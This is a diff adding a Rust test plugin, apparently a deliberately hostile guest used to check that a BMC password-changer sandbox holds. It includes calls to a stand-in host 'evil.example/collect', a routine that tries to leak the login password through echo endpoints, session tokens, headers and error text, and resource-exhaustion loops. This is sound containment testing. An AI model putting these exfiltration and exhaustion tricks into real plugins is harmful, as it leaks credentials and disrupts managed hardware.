@@ -1,0 +1,107 @@
+//! Misbehaviours the sandbox must contain. `change-password` does what `target.account` names:
+//!
+//! - `spin`: loops forever;
+//! - `grow`: allocates until memory runs out;
+//! - `absolute-url` / `authority`: tries to reach another host;
+//! - `panic`: panics;
+//! - `steal`: tries every way it has to read a secret back and reports what it saw in its error;
+//! - `sleep`: asks the host to sleep for a minute.
+
+use bmc_plugin_sdk::prelude::*;
+
+pub struct Hostile;
+
+fn send_path(bmc: &Bmc, path: &str) -> PluginError {
+    match bmc.send(&Request::new(Method::Get, path)) {
+        Ok(r) => PluginError::Protocol(format!("reached {path}: HTTP {}", r.status)),
+        Err(e) => PluginError::Protocol(format!("refused {path}: {e:?}")),
+    }
+}
+
+fn steal(bmc: &Bmc, target: &Target) -> PluginError {
+    let login = match bmc.login_password() {
+        Ok(s) => s,
+        Err(e) => return e,
+    };
+    let mut seen = Vec::new();
+    // 1. Echo it in a body to an endpoint that reflects requests.
+    let body = JsonBody::object().secret("Password", &login);
+    let echo = Request::new(Method::Post, "/echo")
+        .auth(Auth::Basic {
+            user: &target.login_account,
+            password: &login,
+        })
+        .json(body);
+    if let Ok(r) = bmc.send(&echo) {
+        seen.push(String::from_utf8_lossy(&r.body).into_owned());
+        seen.extend(r.headers.iter().map(|(k, v)| format!("{k}: {v}")));
+        // 2. A session token the BMC returned: use it, then look for it in what comes back.
+        if let Some(token) = &r.session_token {
+            if let Ok(r) = bmc.send(&Request::new(Method::Get, "/echo").auth(Auth::Session(token)))
+            {
+                seen.push(String::from_utf8_lossy(&r.body).into_owned());
+            }
+        }
+    }
+    // 3. Put the secret where the plugin controls the text: a header. The SDK offers no way, so
+    //    try the closest thing: a header the host must refuse.
+    let smuggle = Request::new(Method::Get, "/echo").header("X-Auth-Token", "guess");
+    seen.push(format!("{:?}", bmc.send(&smuggle).err()));
+    // 4. Debug-print the handle.
+    seen.push(format!("{login:?}"));
+    bmc.info(format!("stolen: {}", seen.join(" | ")));
+    PluginError::Protocol(format!("stolen: {}", seen.join(" | ")))
+}
+
+impl VendorPlugin for Hostile {
+    fn info() -> PluginInfo {
+        PluginInfo {
+            id: "hostile".into(),
+            vendor: "Nobody".into(),
+            product: "Hostile guest".into(),
+            version: env!("CARGO_PKG_VERSION").into(),
+            families: vec![],
+            policy: PasswordPolicy::default(),
+        }
+    }
+
+    fn probe(_bmc: &Bmc, _target: &Target) -> Result<ProbeResult, PluginError> {
+        Err(PluginError::Unsupported(
+            "hostile guests do not probe".into(),
+        ))
+    }
+
+    fn verify(_bmc: &Bmc, _target: &Target) -> Result<(), PluginError> {
+        Ok(())
+    }
+
+    fn change_password(bmc: &Bmc, target: &Target) -> Result<(), PluginError> {
+        match target.account.as_str() {
+            "spin" => {
+                let mut n = 0u64;
+                loop {
+                    n = std::hint::black_box(n.wrapping_add(1));
+                }
+            }
+            "grow" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hoard.push(std::hint::black_box(vec![1u8; 1 << 20]));
+                }
+            }
+            "absolute-url" => Err(send_path(bmc, "https://evil.example/collect")),
+            "authority" => Err(send_path(bmc, "//evil.example/collect")),
+            "panic" => panic!("hostile guest panicked on purpose"),
+            "steal" => Err(steal(bmc, target)),
+            "sleep" => {
+                bmc.sleep_ms(60_000);
+                Ok(())
+            }
+            other => Err(PluginError::Unsupported(format!(
+                "no misbehaviour named `{other}`"
+            ))),
+        }
+    }
+}
+
+register_plugin!(Hostile);
